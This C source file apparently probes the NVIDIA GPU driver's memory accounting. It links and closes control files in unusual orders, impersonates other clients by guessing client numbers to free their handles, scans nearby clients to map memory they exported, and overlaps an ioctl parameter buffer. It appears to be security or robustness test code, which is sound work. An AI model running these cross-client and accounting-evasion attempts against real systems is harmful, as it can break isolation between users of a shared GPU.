// SPDX-License-Identifier: Apache-2.0
/*
 * ledger linked|closed|many|holder|exporter BYTES: takes all that it is given, in pieces of BYTES, before and after something that an
 * engine could take for the end of what it has charged, and rests with all of it.
 *   linked  the client is used through a second control file, which is linked to the client's own
 *   closed  a client is made through a control file that is linked to another one, and that is closed; an engine may
 *           refuse that
 *   many   many files that asked to be linked to themselves, each closed with what was allocated through it
 *   holder  UVM keeps the memory of a freed handle; clients are made by the names under which an engine may keep that
 *   exporter  memory is exported, and UVM asked to map it from the driver's own client, under whatever number it has
 * ledger overlap: asks for the card's size with an answer that lies in the question; rests with what it was told.
 */
#define _GNU_SOURCE
#include <stdio.h>
#include <stdlib.h>
#include <unistd.h>

#include "client.h"
#include "uvm_probe.h"

#define HOLDER_BASE 0xf0000000u
#define DEVICE 0x10u
/* The driver gives out numbers one after the other. */
#define CLIENTS_NEAR 32u
#define EXPORTS_NEAR 6u

static struct settings settings;
static uint64_t piece, before, after, told;

static void need(const char *what, uint32_t status)
{
	if (status == NV_OK)
		return;
	fprintf(stderr, "%s: status 0x%x: ", what, status);
	perror(NULL);
	exit(1);
}

static uint32_t try_link(int fd, int ctl)
{
	uint8_t data[4] = { 0 };

	put32(data, settings.abi->nv_ioctl_register_fd_t.ctl_fd, (uint32_t)ctl);
	return driver_call(&settings, fd, NV_ESC_REGISTER_FD, data, sizeof(data));
}

static void link_to(int fd, int ctl)
{
	need("REGISTER_FD", try_link(fd, ctl));
}

/* Make something small by this file, so that an engine sees the client there. The engine may refuse that. */
static void touch(const struct session *session, int ctl)
{
	struct session through = *session;
	uint8_t params[8] = { 0 };
	uint32_t handle = 0;

	through.ctl = ctl;
	if (session_alloc(&through, session->device, NV20_SUBDEVICE_0, params,
		    settings.abi->NV2080_ALLOC_PARAMETERS.bytes, &handle) == NV_OK)
		need("free", session_free(&through, handle));
}

static void linked(void)
{
	struct session session;
	int second, turn;

	client_open(&session, &settings);
	before += client_fill(&session, piece);
	second = client_control_file(&settings);
	link_to(second, session.ctl);
	for (turn = 0; turn < 4; turn++) {
		touch(&session, turn % 2 ? session.ctl : second);
		after += client_fill(&session, piece);
	}
}

static void closed(void)
{
	int first = client_control_file(&settings), second = client_control_file(&settings);
	struct session session, other;

	session_init(&session, &settings, 0);
	session.ctl = second;
	session.card = driver_open(&settings, "nvidia0");
	link_to(session.card, first);
	link_to(second, first);
	session.device = DEVICE;
	if (session_alloc(&session, 0, NV01_ROOT_CLIENT, NULL, 0, &session.client) == NV_OK &&
		client_device(&session, DEVICE) == NV_OK)
		before += client_fill(&session, piece);
	close(second);
	client_open(&other, &settings);
	after += client_fill(&other, piece);
}

static void many(void)
{
	struct session session;
	struct grant grant;
	int turn;

	for (turn = 0; turn < 100; turn++) {
		client_open(&session, &settings);
		try_link(session.ctl, session.ctl);
		need("memory of the many", memory_alloc(&session, piece, &grant));
		session_drop(&session);
	}
	client_open(&session, &settings);
	after += client_fill(&session, piece);
}

/* A client of that name, and handles of its objects: each may be refused. */
static void impostor(uint32_t client)
{
	struct session session;
	uint32_t handle;

	session_init(&session, &settings, 0);
	session.client = client;
	if (session_open(&session) != NV_OK) {
		session.ctl = client_control_file(&settings);
		session.client = client;
	}
	for (handle = 0; handle < 4; handle++)
		session_free(&session, handle);
	session_free(&session, client);
	session_drop(&session);
}

static void holder(void)
{
	struct uvm uvm;

	need("UVM", uvm_open(&uvm, &settings));
	need("memory", memory_alloc(&uvm.session, piece, &uvm.last));
	need("range", uvm_range(&uvm, piece));
	need("map", uvm_map(&uvm, uvm.last.handle));
	need("free", session_free(&uvm.session, uvm.last.handle));
	before = piece;
	impostor(HOLDER_BASE | (uint32_t)getpid());
	impostor(HOLDER_BASE);
	after += client_fill(&uvm.session, piece);
}

static void exporter(void)
{
	struct uvm uvm;
	uint32_t own, client, handle;
	int descriptor;

	need("UVM", uvm_open(&uvm, &settings));
	need("memory", memory_alloc(&uvm.session, piece, &uvm.last));
	need("export", export_memory(&uvm.session, 0, &descriptor));
	need("range", uvm_range(&uvm, piece));
	own = uvm.session.client;
	/* The first that succeeds is the last: each try takes the place of the one before. */
	for (client = own - CLIENTS_NEAR; client < own + CLIENTS_NEAR && !told; client++) {
		uvm.session.client = client;
		for (handle = 1; handle < EXPORTS_NEAR && client != own && !told; handle++)
			told += uvm_map(&uvm, handle) == NV_OK;
	}
	uvm.session.client = own;
	need("free", memory_free_at(&uvm.session, 0));
	close(descriptor);
	after += client_fill(&uvm.session, piece);
}

/* The question's second field is the list's first: an index that is asked for, and room for the answer. */
static void overlap(void)
{
	const struct nv_layout_NV2080_CTRL_FB_GET_INFO_PARAMS *at = &settings.abi->NV2080_CTRL_FB_GET_INFO_PARAMS;
	const struct nv_layout_NV2080_CTRL_FB_INFO *entry = &settings.abi->NV2080_CTRL_FB_INFO;
	uint8_t params[64] = { 0 }, *list = params + 4;
	struct session session;

	client_open(&session, &settings);
	put32(params, at->fbInfoListSize, 1);
	put_pointer(params, at->fbInfoList, list);
	put32(list, entry->index, NV2080_CTRL_FB_INFO_INDEX_HEAP_SIZE);
	if (session_control(&session, session.subdevice, NV2080_CTRL_CMD_FB_GET_INFO, params, at->bytes) == NV_OK)
		told = (uint64_t)get32(list, entry->data) << 10;
}

int main(int argc, char **argv)
{
	static const struct {
		const char *name;
		void (*run)(void);
	} ways[] = { { "linked", linked }, { "closed", closed }, { "many", many }, { "holder", holder },
		{ "exporter", exporter }, { "overlap", overlap } };
	unsigned int i;

	client_begin(&settings, &argc, &argv, 1);
	if (argc > 1)
		piece = strtoull(argv[1], NULL, 0);
	for (i = 0; i < sizeof(ways) / sizeof(ways[0]); i++) {
		if (strcmp(argv[0], ways[i].name) == 0)
			ways[i].run();
	}
	printf("resting before=%llu after=%llu told=%llu\n", (unsigned long long)before, (unsigned long long)after,
		(unsigned long long)told);
	client_rest();
}
